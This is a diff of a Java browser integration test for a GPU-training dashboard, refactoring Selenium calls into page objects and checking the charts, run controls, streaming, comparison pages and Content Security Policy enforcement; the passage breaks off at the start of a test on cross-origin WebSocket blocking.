@@ -1,16 +1,26 @@
 package io.jenkins.plugins.gputraining.agent.dashboard;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.within;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
-import io.jenkins.plugins.gputraining.runner.AgentProcess;
+import io.jenkins.plugins.gputraining.agent.dashboard.pages.Chart;
+import io.jenkins.plugins.gputraining.agent.dashboard.pages.ComparePage;
+import io.jenkins.plugins.gputraining.agent.dashboard.pages.ComparePage.WinningCell;
+import io.jenkins.plugins.gputraining.agent.dashboard.pages.Console;
+import io.jenkins.plugins.gputraining.agent.dashboard.pages.Dashboard;
+import io.jenkins.plugins.gputraining.agent.dashboard.pages.RunChart;
+import io.jenkins.plugins.gputraining.agent.dashboard.pages.RunPage;
+import io.jenkins.plugins.gputraining.agent.dashboard.pages.RunsPage;
+import io.jenkins.plugins.gputraining.agent.dashboard.pages.SummaryPage;
 import io.jenkins.plugins.gputraining.agent.server.ApiTokens;
 import io.jenkins.plugins.gputraining.agent.server.ServerConfig;
 import io.jenkins.plugins.gputraining.agent.server.TrainingServer;
 import io.jenkins.plugins.gputraining.model.fixtures.LiveRunFixture;
 import io.jenkins.plugins.gputraining.model.progress.RunDirectory;
 import io.jenkins.plugins.gputraining.model.progress.RunStatus;
+import io.jenkins.plugins.gputraining.runner.AgentProcess;
 import java.io.IOException;
 import java.net.URI;
 import java.net.http.HttpClient;
@@ -20,25 +30,20 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.nio.file.attribute.PosixFilePermissions;
 import java.util.ArrayList;
-import java.util.Arrays;
+import java.util.Comparator;
 import java.util.List;
 import java.util.Map;
-import java.util.logging.Level;
-import java.util.stream.Collectors;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 import org.junit.jupiter.api.io.TempDir;
-import org.openqa.selenium.By;
-import org.openqa.selenium.WebElement;
-import org.openqa.selenium.logging.LogEntry;
-import org.openqa.selenium.support.ui.ExpectedConditions;
-import org.openqa.selenium.support.ui.Select;
 
 /**
  * The dashboard in headless Chromium against the agent's HTTP service, started in-process on a runs directory of
- * real run directories (and one real training the agent runs as a child process).
+ * real run directories (and one real training the agent runs as a child process). One browser and one service for
+ * all tests; each test opens its pages afresh. The pages are driven through page objects (the {@code pages} package):
+ * what a user sees and does.
  */
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class DashboardBrowserIT {
@@ -57,6 +62,7 @@ class DashboardBrowserIT {
     private Path runs;
     private TrainingServer server;
     private Browser browser;
+    private Dashboard dashboard;
     private String base;
     private final HttpClient http = HttpClient.newHttpClient();
 
@@ -71,6 +77,7 @@ class DashboardBrowserIT {
                 .tokens(ApiTokens.parse("dashboard-tester:" + TOKEN, "test tokens")).build());
         base = "http://127.0.0.1:" + server.port();
         browser = Browser.start();
+        dashboard = new Dashboard(browser, base);
     }
 
     @AfterAll
@@ -83,151 +90,77 @@ class DashboardBrowserIT {
         }
     }
 
-    private String dashboardUrl(final String route) {
-        return base + "/#" + route;
-    }
-
-    private JsonNode getJson(final String path) throws IOException, InterruptedException {
-        HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(base + path)).build(),
-                HttpResponse.BodyHandlers.ofString());
-        assertThat(response.statusCode()).as("GET %s: %s", path, response.body()).isEqualTo(200);
-        return JSON.readTree(response.body());
-    }
-
-    /** Loads the dashboard afresh at a route (a new document, not just a hash change). */
-    private void open(final String route) {
-        browser.driver().get("about:blank");
-        browser.driver().get(dashboardUrl(route));
-        browser.await(15, "the dashboard to start", driver -> driver.findElements(By.cssSelector("#view .page")).size() > 0);
-    }
-
-    private WebElement find(final String css) {
-        return browser.driver().findElement(By.cssSelector(css));
-    }
-
-    private List<WebElement> findAll(final String css) {
-        return browser.driver().findElements(By.cssSelector(css));
-    }
-
-    /** Asserts the browser console has no CSP violation and no error, except entries matching an allowed pattern. */
-    private void assertCleanConsole(final String page, final String... allowed) {
-        List<LogEntry> entries = browser.drainConsole();
-        List<String> csp = entries.stream().map(LogEntry::getMessage)
-                .filter(message -> message.contains("Content Security Policy")
-                        || message.contains("Content-Security-Policy"))
-                .toList();
-        assertThat(csp).as("CSP violations on the %s page", page).isEmpty();
-        List<String> errors = entries.stream()
-                .filter(entry -> entry.getLevel().intValue() >= Level.SEVERE.intValue())
-                .map(LogEntry::getMessage)
-                .filter(message -> Arrays.stream(allowed).noneMatch(message::contains))
-                .toList();
-        assertThat(errors).as("console errors on the %s page", page).isEmpty();
-    }
-
-    private static String chartDataScript() {
-        return "const el = document.getElementById(arguments[0]);"
-                + "if (!el || !window.echarts) return null;"
-                + "const chart = echarts.getInstanceByDom(el); if (!chart) return null;"
-                + "const option = chart.getOption();"
-                + "return {canvas: el.querySelectorAll('canvas').length,"
-                + " series: (option.series || []).map(s => ({name: s.name, points: (s.data || []).length,"
-                + "   connectNulls: s.connectNulls}))};";
-    }
-
-    @SuppressWarnings("unchecked")
-    private Map<String, Object> chartData(final String id) {
-        return (Map<String, Object>) browser.script(chartDataScript(), id);
-    }
-
-    @SuppressWarnings("unchecked")
-    private List<Map<String, Object>> series(final Map<String, Object> chart) {
-        return (List<Map<String, Object>>) chart.get("series");
-    }
-
-    private boolean chartHasData(final String id, final int seriesCount) {
-        Map<String, Object> chart = chartData(id);
-        if (chart == null || ((Number) chart.get("canvas")).intValue() == 0) {
-            return false;
-        }
-        List<Map<String, Object>> series = series(chart);
-        return series.size() >= seriesCount
-                && series.stream().allMatch(s -> ((Number) s.get("points")).longValue() > 0);
-    }
-
     @Test
     void runsListShowsTheRunsWithStatusAndEfficiencyBadgeColouredByScoreBand() throws Exception {
-        open("/");
-        browser.await(15, "the three runs in the table", driver ->
-                findAll("#runs-table tbody tr[data-job-id]").size() >= RUNS.size());
+        RunsPage list = dashboard.runs().awaitRows(RUNS.size());
 
         List<String> bands = new ArrayList<>();
         for (DashboardRuns.Spec spec : RUNS) {
-            WebElement row = find("#runs-table tbody tr[data-job-id='" + spec.id() + "']");
-            assertThat(row.findElement(By.cssSelector("a.run-link")).getText())
-                    .as("the name is shown as text, not markup").isEqualTo(spec.name());
-            assertThat(row.findElement(By.cssSelector("a.run-link")).getAttribute("href"))
-                    .endsWith("#/run/" + spec.id());
-            assertThat(row.findElement(By.cssSelector(".status-pill")).getText()).isEqualToIgnoringCase("completed");
-            assertThat(row.findElement(By.cssSelector(".status-pill")).getAttribute("class")).contains("status-completed");
+            RunsPage.Row row = list.row(spec.id());
+            assertThat(row.name()).as("the name is shown as text, not markup").isEqualTo(spec.name());
+            assertThat(row.link()).endsWith("#/run/" + spec.id());
+            assertThat(row.status().text()).isEqualToIgnoringCase("completed");
+            assertThat(row.status().classes()).contains("status-completed");
 
             double score = getJson("/api/training/" + spec.id() + "/analytics").at("/efficiency/overall_score").asDouble();
             String band = score > 90 ? "green" : score > 70 ? "yellow" : "red";
             bands.add(band);
-            WebElement badge = row.findElement(By.cssSelector(".efficiency-badge"));
-            assertThat(badge.getAttribute("class")).as("badge of %s (score %s)", spec.id(), score)
+            assertThat(row.efficiency().classes()).as("badge of %s (score %s)", spec.id(), score)
                     .contains("badge-" + band);
-            assertThat(badge.getText()).isEqualTo(String.format("%.1f%% efficient", score));
+            assertThat(row.efficiency().text()).isEqualTo(String.format("%.1f%% efficient", score));
         }
         assertThat(bands).as("the fixtures cover every band").containsExactly("green", "yellow", "red");
+        List<String> ids = RUNS.stream().map(DashboardRuns.Spec::id).toList();
+        assertThat(list.rows()).extracting(RunsPage.Row::id).filteredOn(ids::contains).as("newest first")
+                .containsExactly("small-batch", "lr-high", "baseline");
 
         // Compare selected: two ticks enable the button, which opens the compare page with both ids.
-        WebElement compare = find("#compare-selected");
-        assertThat(compare.isEnabled()).isFalse();
-        find("tr[data-job-id='baseline'] input.select-run").click();
-        find("tr[data-job-id='lr-high'] input.select-run").click();
-        assertThat(compare.isEnabled()).isTrue();
+        assertThat(list.canCompare()).isFalse();
+        assertThat(list.selectionInfo()).isEqualTo("Select two or more runs to compare");
+        list.select("baseline").select("lr-high");
+        assertThat(list.canCompare()).isTrue();
+        assertThat(list.selectionInfo()).isEqualTo("2 selected");
         browser.fullPageScreenshot("runs");
         assertCleanConsole("runs");
-        compare.click();
-        browser.await(10, "the compare page", ExpectedConditions.presenceOfElementLocated(By.id("compare-table")));
-        assertThat(browser.driver().getCurrentUrl()).endsWith("#/compare?ids=baseline,lr-high");
+        ComparePage compare = list.compareSelected();
+        assertThat(dashboard.route()).isEqualTo("/compare?ids=baseline,lr-high");
+        assertThat(compare.rows()).containsExactlyInAnyOrder("baseline", "lr-high");
         assertCleanConsole("compare");
     }
 
     @Test
     void runPageRendersNonEmptyChartsCardsCheckpointsAndDownloads() throws Exception {
-        open("/run/baseline");
-        for (String chart : List.of("chart-loss", "chart-throughput", "chart-gpu-util", "chart-gpu-memory",
-                "chart-gpu-temperature", "chart-gpu-power")) {
-            browser.await(15, chart + " with data", driver -> chartHasData(chart, 1));
-            Map<String, Object> data = chartData(chart);
-            assertThat(((Number) data.get("canvas")).intValue()).as(chart + " canvas").isPositive();
-            assertThat(series(data).get(0).get("connectNulls")).as(chart).isEqualTo(false);
+        RunPage run = dashboard.run("baseline");
+        for (RunChart chart : RunChart.values()) {
+            run.awaitChart(chart, 1, 15);
+            Chart.Drawn drawn = run.chart(chart).drawn();
+            assertThat(drawn.canvases()).as(chart + " canvas").isPositive();
+            assertThat(drawn.series().get(0).connectNulls()).as(chart + " leaves gaps").isFalse();
         }
-        assertThat(series(chartData("chart-loss")).get(0).get("points")).isEqualTo((long) DashboardRuns.STEPS);
+        assertThat(run.lossChartPoints()).isEqualTo(DashboardRuns.STEPS);
 
-        assertThat(find("#run-status").getText()).isEqualToIgnoringCase("completed");
-        assertThat(find("#pause-button").isEnabled()).as("a finished run cannot be paused").isFalse();
-        assertThat(find("#resume-button").isEnabled()).isFalse();
-        assertThat(find("#cancel-button").isEnabled()).isFalse();
-        browser.await(10, "the cards", driver -> !find("#card-loss .card-value").getText().equals("\u2014"));
-        assertThat(find("#card-loss .card-value").getText()).isEqualTo("0.41");
-        assertThat(find("#card-throughput .card-value").getText()).contains("samples/s");
-        assertThat(find("#card-gpu-util .card-value").getText()).endsWith("%");
-        assertThat(find("#card-efficiency .efficiency-badge").getAttribute("class")).contains("badge-green");
-        assertThat(find("#telemetry-notice").isDisplayed()).isFalse();
+        assertThat(run.status()).isEqualToIgnoringCase("completed");
+        assertThat(run.documentTitle()).isEqualTo("Baseline lr=1e-3 \u00b7 GPU Training");
+        assertThat(run.canPause()).as("a finished run cannot be paused").isFalse();
+        assertThat(run.canResume()).isFalse();
+        assertThat(run.canCancel()).isFalse();
+        run.awaitCards();
+        assertThat(run.card("loss").value()).isEqualTo("0.41");
+        assertThat(run.card("throughput").value()).contains("samples/s");
+        assertThat(run.card("gpu-util").value()).endsWith("%");
+        assertThat(run.efficiencyBadge().classes()).contains("badge-green");
+        assertThat(run.telemetryNoticeShown()).isFalse();
+        assertThat(run.gpuInventory()).startsWith("GPU 0: ");
 
-        WebElement checkpoint = find("#checkpoints-table a.checkpoint-download");
-        assertThat(checkpoint.getAttribute("href")).isEqualTo(base + "/api/training/baseline/download/checkpoint/checkpoint-600");
-        List<String> artifacts = findAll("#artifact-links a").stream().map(a -> a.getAttribute("href")).toList();
-        assertThat(artifacts).contains(base + "/api/training/baseline/download/metrics.jsonl",
+        assertThat(run.checkpointLinks()).containsExactly(
+                base + "/api/training/baseline/download/checkpoint/checkpoint-600");
+        assertThat(run.downloadLinks()).contains(base + "/api/training/baseline/download/metrics.jsonl",
                 base + "/api/training/baseline/download/telemetry.jsonl",
                 base + "/api/training/baseline/download/output.log");
         HttpResponse<String> log = http.send(HttpRequest.newBuilder(URI.create(base
                 + "/api/training/baseline/download/output.log")).build(), HttpResponse.BodyHandlers.ofString());
         assertThat(log.body()).contains("training Baseline");
-        HttpResponse<byte[]> weights = http.send(HttpRequest.newBuilder(URI.create(checkpoint.getAttribute("href")))
+        HttpResponse<byte[]> weights = http.send(HttpRequest.newBuilder(URI.create(run.checkpointLinks().get(0)))
                 .build(), HttpResponse.BodyHandlers.ofByteArray());
         assertThat(weights.statusCode()).as("checkpoint download").isEqualTo(200);
 
@@ -235,9 +168,9 @@ class DashboardBrowserIT {
         assertCleanConsole("run");
 
         // Two GPUs: one series per GPU.
-        open("/run/lr-high");
-        browser.await(15, "two GPU series", driver -> chartHasData("chart-gpu-util", 2));
-        assertThat(find(".run-title").getText()).isEqualTo("High LR <b>5e-3</b> & \"warmup\"");
+        RunPage twoGpus = dashboard.run("lr-high").awaitChart(RunChart.GPU_UTILISATION, 2, 15);
+        assertThat(twoGpus.title()).isEqualTo("High LR <b>5e-3</b> & \"warmup\"");
+        assertThat(twoGpus.gpuInventory()).contains("GPU 0: ", "GPU 1: ");
         assertCleanConsole("run (two GPUs)");
     }
 
@@ -256,132 +189,87 @@ class DashboardBrowserIT {
         Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));
         AgentProcess agent = AgentProcess.start(work, "run", "--out", runs.resolve("live").toString(),
                 "--name", "live <i>job</i>", "--", "./train.sh");
-        RunDirectory run = RunDirectory.at(runs.resolve("live"));
+        RunDirectory live = RunDirectory.at(runs.resolve("live"));
         try {
-            browser.await(30, "the training to run", driver -> status(run) == RunStatus.RUNNING);
-            open("/run/live");
-            browser.await(15, "the status", driver -> find("#run-status").getText().equalsIgnoreCase("running"));
-            assertThat(find(".run-title").getText()).isEqualTo("live <i>job</i>");
-            browser.await(20, "live loss points", driver -> chartHasData("chart-loss", 1));
+            browser.await(30, "the training to run", driver -> status(live) == RunStatus.RUNNING);
+            RunPage run = dashboard.run("live").awaitStatus("running", 15);
+            assertThat(run.title()).isEqualTo("live <i>job</i>");
+            run.awaitChart(RunChart.LOSS, 1, 20);
             // The page follows the run over the WebSocket stream: points arrive without a reload or polling.
-            browser.await(10, "the stream", driver -> find("#live-indicator").getAttribute("class").contains("live-live"));
-            long before = lossPoints();
-            browser.await(15, "streamed loss points", driver -> lossPoints() >= before + 5);
+            run.awaitLive("live", 10);
+            long before = run.lossChartPoints();
+            run.await(15, "streamed loss points", () -> run.lossChartPoints() >= before + 5);
             JsonNode progress = getJson("/api/training/live");
             if (!progress.at("/telemetry/available").asBoolean()) {
-                assertThat(find("#telemetry-notice").getText()).contains(progress.at("/telemetry/reason").asText());
+                assertThat(run.telemetryNotice()).contains(progress.at("/telemetry/reason").asText());
             }
-            assertThat(find("#resume-button").isEnabled()).isFalse();
+            assertThat(run.canResume()).isFalse();
 
             // Without the token the service refuses, and the page says why.
-            WebElement token = find("#token-input");
-            token.clear();
-            browser.await(10, "pause enabled", ExpectedConditions.elementToBeClickable(By.id("pause-button"))).click();
-            browser.await(10, "the refusal", driver -> find("#action-result").getAttribute("class").contains("result-error"));
-            assertThat(find("#action-result").getText()).startsWith("Pause failed: ");
-            assertThat(find("#action-result").getAttribute("aria-live")).isEqualTo("polite");
-            assertThat(status(run)).isEqualTo(RunStatus.RUNNING);
+            run.clearToken().pause();
+            RunPage.ActionResult refused = run.awaitActionResult("error");
+            assertThat(refused.text()).startsWith("Pause failed: ");
+            assertThat(refused.ariaLive()).isEqualTo("polite");
+            assertThat(status(live)).isEqualTo(RunStatus.RUNNING);
 
-            token.sendKeys(TOKEN);
-            new Select(find("#pause-mode")).selectByValue("suspend");
-            browser.await(10, "pause enabled", ExpectedConditions.elementToBeClickable(By.id("pause-button"))).click();
-            browser.await(20, "the page to show paused", driver -> find("#run-status").getText().equalsIgnoreCase("paused"));
-            assertThat(status(run)).as("progress.json").isEqualTo(RunStatus.PAUSED);
-            browser.await(10, "the outcome", driver -> find("#action-result").getText().startsWith("Paused"));
-            assertThat(find("#pause-button").isEnabled()).isFalse();
-            assertThat((String) browser.script("return sessionStorage.getItem('gpu-training.token')")).isEqualTo(TOKEN);
+            run.enterToken(TOKEN).pause("suspend").awaitStatus("paused", 20);
+            assertThat(status(live)).as("progress.json").isEqualTo(RunStatus.PAUSED);
+            run.awaitActionResultStartingWith("Paused");
+            assertThat(run.canPause()).isFalse();
+            assertThat(run.canResume()).isTrue();
+            assertThat(dashboard.storedToken()).isEqualTo(TOKEN);
             browser.fullPageScreenshot("run-paused");
 
-            browser.await(10, "resume enabled", ExpectedConditions.elementToBeClickable(By.id("resume-button"))).click();
-            browser.await(20, "the page to show running", driver -> find("#run-status").getText().equalsIgnoreCase("running"));
-            assertThat(status(run)).as("progress.json").isEqualTo(RunStatus.RUNNING);
-            browser.await(10, "the outcome", driver -> find("#action-result").getText().startsWith("Resumed"));
+            run.resume().awaitStatus("running", 20);
+            assertThat(status(live)).as("progress.json").isEqualTo(RunStatus.RUNNING);
+            run.awaitActionResultStartingWith("Resumed");
 
-            browser.await(10, "cancel enabled", ExpectedConditions.elementToBeClickable(By.id("cancel-button"))).click();
-            browser.await(5, "the confirmation", ExpectedConditions.alertIsPresent()).accept();
-            browser.await(30, "the page to show cancelled", driver -> find("#run-status").getText().equalsIgnoreCase("cancelled"));
-            assertThat(status(run)).isEqualTo(RunStatus.CANCELLED);
+            run.cancel().awaitStatus("cancelled", 30);
+            assertThat(status(live)).isEqualTo(RunStatus.CANCELLED);
             assertCleanConsole("run (live)", "401");
         }
         finally {
-            if (status(run) != RunStatus.CANCELLED) {
+            if (status(live) != RunStatus.CANCELLED) {
                 agent.terminate();
             }
             agent.waitFor();
         }
     }
 
-    private long lossPoints() {
-        return ((Number) series(chartData("chart-loss")).get(0).get("points")).longValue();
-    }
-
-    private static RunStatus status(final RunDirectory run) {
-        try {
-            return run.readProgress().status();
-        }
-        catch (RuntimeException e) {
-            return null;
-        }
-    }
-
     @Test
     void theRunPageAppendsStreamedMetricsAndTelemetryOnTheServersTimeAxis() throws Exception {
         try (LiveRunFixture live = LiveRunFixture.start(runs, "streamed", "Streamed run", true)) {
-            open("/run/streamed");
-            browser.await(15, "the stream", driver -> find("#live-indicator").getAttribute("class").contains("live-live"));
-            browser.await(15, "the first GPU points", driver -> chartHasData("chart-gpu-power", 1));
-            long loss = lossPoints();
-            long power = points("chart-gpu-power");
-            browser.await(10, "streamed points", driver -> lossPoints() >= loss + 5
-                    && points("chart-gpu-power") >= power + 5);
+            RunPage run = dashboard.run("streamed").awaitLive("live", 15)
+                    .awaitChart(RunChart.GPU_POWER, 1, 15);
+            Chart power = run.chart(RunChart.GPU_POWER);
+            long lossBefore = run.lossChartPoints();
+            long powerBefore = power.points();
+            run.await(10, "streamed points",
+                    () -> run.lossChartPoints() >= lossBefore + 5 && power.points() >= powerBefore + 5);
             live.finish();
             // The x of a streamed sample is its active elapsed time, as the service's gpu-series computes it.
-            double streamedLast = lastX("chart-gpu-power");
+            double streamedLast = power.lastX();
             JsonNode served = getJson("/api/training/streamed/gpu-series?metric=power_watts&points=10000")
                     .at("/series/0/points");
             double servedLast = served.get(served.size() - 1).get(0).asDouble();
-            assertThat(streamedLast).isCloseTo(servedLast, org.assertj.core.data.Offset.offset(1.0));
-            browser.await(15, "the end", driver -> find("#run-status").getText().equalsIgnoreCase("completed"));
-            browser.await(5, "the stream to end",
-                    driver -> find("#live-indicator").getAttribute("class").contains("live-ended"));
+            assertThat(streamedLast).isCloseTo(servedLast, within(1.0));
+            run.awaitStatus("completed", 15).awaitLive("ended", 5);
             assertCleanConsole("run (streamed)");
         }
-    }
-
-    private long points(final String chart) {
-        return ((Number) series(chartData(chart)).get(0).get("points")).longValue();
-    }
-
-    private double lastX(final String chart) {
-        return ((Number) browser.script("const option = echarts.getInstanceByDom(document.getElementById(arguments[0]))"
-                + ".getOption(); const data = option.series[0].data; return data[data.length - 1][0];", chart))
-                .doubleValue();
     }
 
     @Test
     void withoutTheStreamTheRunPageFallsBackToPollingEveryThreeSeconds() throws Exception {
         try (LiveRunFixture live = LiveRunFixture.start(runs, "polled", "Polled run", false)) {
-            // Every WebSocket the page opens goes to a path the service does not have: the stream fails.
-            Object script = browser.cdp("Page.addScriptToEvaluateOnNewDocument", Map.of("source",
-                    "(() => { const Real = window.WebSocket; window.WebSocket = class extends Real {"
-                            + " constructor(url, protocols) { super(String(url) + '-unavailable', protocols); } }; })();"))
-                    .get("identifier");
-            try {
-                open("/run/polled");
-                browser.await(15, "the polling fallback",
-                        driver -> find("#live-indicator").getAttribute("class").contains("live-polling"));
-                browser.await(15, "the first points", driver -> chartHasData("chart-loss", 1));
-                long before = lossPoints();
-                browser.await(10, "points from a poll", driver -> lossPoints() > before);
-                assertThat(find("#run-status").getText()).isEqualToIgnoringCase("running");
+            try (AutoCloseable noStream = dashboard.breakWebSockets()) {
+                RunPage run = dashboard.run("polled").awaitLive("polling", 15)
+                        .awaitChart(RunChart.LOSS, 1, 15);
+                long before = run.lossChartPoints();
+                run.await(10, "points from a poll", () -> run.lossChartPoints() > before);
+                assertThat(run.status()).isEqualToIgnoringCase("running");
+                assertThat(run.liveState()).as("polling goes on while the run runs").isEqualTo("polling");
                 live.finish();
-                browser.await(10, "the end of the run",
-                        driver -> find("#run-status").getText().equalsIgnoreCase("completed"));
-                browser.await(5, "polling to stop",
-                        driver -> find("#live-indicator").getAttribute("class").contains("live-ended"));
-            }
-            finally {
-                browser.cdp("Page.removeScriptToEvaluateOnNewDocument", Map.of("identifier", script));
+                run.awaitStatus("completed", 10).awaitLive("ended", 5);
             }
             assertCleanConsole("run (polling)", "WebSocket connection to");
         }
@@ -389,71 +277,68 @@ class DashboardBrowserIT {
 
     @Test
     void comparePageMarksTheWinnersAndOverlaysTheLossCurves() throws Exception {
-        open("/compare");
-        browser.await(15, "the run picker", driver -> findAll("#compare-picker input.pick-run").size() >= RUNS.size());
-        assertThat(find("#compare-hint").isDisplayed()).isTrue();
+        ComparePage compare = dashboard.compare().awaitPicker(RUNS.size());
+        assertThat(compare.pickable()).contains("baseline", "lr-high", "small-batch");
+        assertThat(compare.asksForTwoRuns()).isTrue();
         for (DashboardRuns.Spec spec : RUNS) {
-            find("#compare-picker label[data-job-id='" + spec.id() + "']").click();
+            compare.pick(spec.id());
         }
-        browser.await(15, "three rows", driver -> findAll("#compare-table tbody tr").size() == RUNS.size());
-        assertThat(browser.driver().getCurrentUrl()).endsWith("#/compare?ids=baseline,lr-high,small-batch");
+        compare.awaitRows(RUNS.size());
+        assertThat(dashboard.route()).isEqualTo("/compare?ids=baseline,lr-high,small-batch");
+        assertThat(compare.asksForTwoRuns()).isFalse();
+        assertThat(compare.pickerHint()).startsWith("3 of ");
 
         JsonNode comparison = getJson("/api/training/analytics/compare?job_ids=baseline,lr-high,small-batch");
-        String lowestFinalLoss = RUNS.stream().min((a, b) -> Double.compare(a.finalLoss(), b.finalLoss()))
+        String lowestFinalLoss = RUNS.stream().min(Comparator.comparingDouble(DashboardRuns.Spec::finalLoss))
                 .orElseThrow().id();
         assertThat(comparison.at("/winner/best_loss").asText()).isEqualTo(lowestFinalLoss);
 
-        List<WebElement> bestLoss = findAll("#compare-table td.winner[data-winner='best_loss']");
+        List<WinningCell> bestLoss = compare.winningCells("best_loss");
         assertThat(bestLoss).hasSize(1);
-        WebElement cell = bestLoss.get(0);
-        assertThat(cell.getText()).startsWith("\u2605").contains("0.35");
-        assertThat(cell.getAttribute("data-column")).isEqualTo("final_loss");
-        assertThat(cell.findElement(By.xpath("./ancestor::tr")).getAttribute("data-job-id")).isEqualTo(lowestFinalLoss);
+        WinningCell cell = bestLoss.get(0);
+        assertThat(cell.text()).startsWith("\u2605").contains("0.35");
+        assertThat(cell.column()).isEqualTo("final_loss");
+        assertThat(cell.jobId()).isEqualTo(lowestFinalLoss);
 
         // Every category's winner is marked in its row, and nowhere else.
         Map<String, String> columns = Map.of("best_throughput", "throughput", "fastest", "duration_seconds",
                 "most_efficient", "overall_score", "best_loss", "final_loss");
+        Map<String, String> winners = compare.winners();
         for (Map.Entry<String, String> category : columns.entrySet()) {
             String expected = comparison.at("/winner/" + category.getKey()).asText();
-            List<WebElement> marked = findAll("#compare-table td.winner[data-winner='" + category.getKey() + "']");
+            List<WinningCell> marked = compare.winningCells(category.getKey());
             assertThat(marked).as(category.getKey()).hasSize(1);
-            assertThat(marked.get(0).findElement(By.xpath("./ancestor::tr")).getAttribute("data-job-id"))
-                    .as(category.getKey()).isEqualTo(expected);
-            assertThat(marked.get(0).getAttribute("data-column")).isEqualTo(category.getValue());
-            assertThat(find("#winner-" + category.getKey()).getAttribute("data-job-id")).isEqualTo(expected);
+            assertThat(marked.get(0).jobId()).as(category.getKey()).isEqualTo(expected);
+            assertThat(marked.get(0).column()).isEqualTo(category.getValue());
+            assertThat(winners.get(category.getKey())).as("winner card " + category.getKey()).isEqualTo(expected);
         }
-        assertThat(findAll("#compare-table td.winner")).hasSize(4);
-        assertThat(findAll("#compare-table td.winner .winner-mark")).hasSize(4);
+        assertThat(compare.winningCells()).hasSize(4).allSatisfy(winner ->
+                assertThat(winner.marks()).as("winner marks in %s", winner).isEqualTo(1));
 
-        browser.await(15, "three loss curves", driver -> chartHasData("chart-compare-loss", 3));
-        List<Map<String, Object>> curves = series(chartData("chart-compare-loss"));
-        assertThat(curves).hasSize(3);
-        assertThat(curves.stream().map(s -> (String) s.get("name")).collect(Collectors.toSet()))
+        compare.awaitCurves(3);
+        assertThat(compare.lossCurves().series()).extracting(Chart.Series::name)
                 .containsExactlyInAnyOrder(RUNS.stream().map(DashboardRuns.Spec::name).toArray(String[]::new));
         browser.fullPageScreenshot("compare");
         assertCleanConsole("compare");
 
         // Unticking one goes back to two runs.
-        find("#compare-picker label[data-job-id='small-batch']").click();
-        browser.await(15, "two rows", driver -> findAll("#compare-table tbody tr").size() == 2);
-        browser.await(15, "two loss curves", driver -> series(chartData("chart-compare-loss")).size() == 2);
+        compare.unpick("small-batch").awaitRows(2);
+        compare.await(15, "two loss curves", () -> compare.lossCurves().series().size() == 2);
+        assertThat(dashboard.route()).isEqualTo("/compare?ids=baseline,lr-high");
         assertCleanConsole("compare (two runs)");
     }
 
     @Test
     void summaryPageShowsTotalsStatusesTopRunsAndTrend() throws Exception {
-        open("/summary");
-        browser.await(15, "the summary", driver -> !find("#card-total-jobs .card-value").getText().equals("\u2014"));
+        SummaryPage summaryPage = dashboard.summary().awaitFigures();
         JsonNode summary = getJson("/api/training/analytics/summary");
-        assertThat(find("#card-total-jobs .card-value").getText()).isEqualTo(summary.get("total_jobs").asText());
-        assertThat(find("#jobs-by-status li[data-status='completed'] .status-count").getText())
-                .isEqualTo(summary.at("/jobs_by_status/completed").asText());
-        List<String> top = findAll("#top-jobs-table tbody tr").stream().map(r -> r.getAttribute("data-job-id")).toList();
+        assertThat(summaryPage.totalRuns()).isEqualTo(summary.get("total_jobs").asText());
+        assertThat(summaryPage.statusCount("completed")).isEqualTo(summary.at("/jobs_by_status/completed").asText());
         List<String> expected = new ArrayList<>();
         summary.get("top_performing_jobs").forEach(job -> expected.add(job.get("job_id").asText()));
         // Other tests add runs to the same folder, so which runs rank highest depends on the order tests run in.
-        assertThat(top).isEqualTo(expected).hasSizeBetween(3, 5);
-        browser.await(15, "the trend chart", driver -> chartHasData("chart-resource-trends", 3));
+        assertThat(summaryPage.topRuns()).isEqualTo(expected).hasSizeBetween(3, 5);
+        summaryPage.await(15, "the trend chart", () -> summaryPage.trendChart().hasData(3));
         browser.fullPageScreenshot("summary");
         assertCleanConsole("summary");
     }
@@ -467,23 +352,68 @@ class DashboardBrowserIT {
         assertThat(index.body()).doesNotContain("<style", "style=", "onclick", "javascript:")
                 .doesNotContainPattern("<script(?![^>]*\\bsrc=)");
 
-        for (String route : List.of("/", "/run/baseline", "/summary", "/compare?ids=baseline,lr-high,small-batch",
-                "/nowhere")) {
-            open(route);
-            Thread.sleep(1500); // let the page load its data and draw
-            assertCleanConsole(route);
-        }
+        // Each page once it has loaded its data and drawn it.
+        dashboard.runs().awaitLoaded().awaitRows(RUNS.size());
+        assertCleanConsole("/");
+        dashboard.run("baseline").awaitLoaded().awaitChart(RunChart.LOSS, 1, 15);
+        assertCleanConsole("/run/baseline");
+        dashboard.summary().awaitLoaded();
+        assertCleanConsole("/summary");
+        dashboard.compare("baseline", "lr-high", "small-batch").awaitLoaded(3);
+        assertCleanConsole("/compare?ids=baseline,lr-high,small-batch");
+        assertThat(dashboard.missing("/nowhere").awaitLoaded().heading()).isEqualTo("Page not found");
+        assertCleanConsole("/nowhere");
+
         // A run that does not exist: the page says so (the 404 answers are the only console errors).
-        open("/run/no-such-run");
-        browser.await(10, "the error", driver -> find("#run-error").isDisplayed());
-        assertThat(find("#run-error").getText()).isEqualTo("No run with id no-such-run.");
+        RunPage missing = dashboard.run("no-such-run").awaitError();
+        assertThat(missing.error()).isEqualTo("No run with id no-such-run.");
         assertCleanConsole("/run/no-such-run", "404");
 
         // The check sees violations: markup with an inline style is refused and reported.
-        browser.script("const div = document.createElement('div');"
-                + "div.innerHTML = '<span style=\"color: red\">x</span>'; document.body.appendChild(div);");
-        Thread.sleep(300);
-        List<String> messages = browser.drainConsole().stream().map(LogEntry::getMessage).toList();
-        assertThat(messages).anyMatch(message -> message.contains("Content Security Policy"));
+        dashboard.injectMarkupWithInlineStyle();
+        assertThat(dashboard.consoleWithCspViolationWithin(5).cspViolations()).isNotEmpty();
+    }
+
+    @Test
+    void aPageCannotConnectToAnotherOriginNotEvenByWebSocket() throws Exception {
+        // The policy's connect-src once allowed "ws: wss:", any host: an injected script could have streamed data
+        // out. 'self' lets the dashboard reach its own origin only (its own stream included, see the live tests).
+        try (java.net.ServerSocket elsewhere = new java.net.ServerSocket(0, 50,
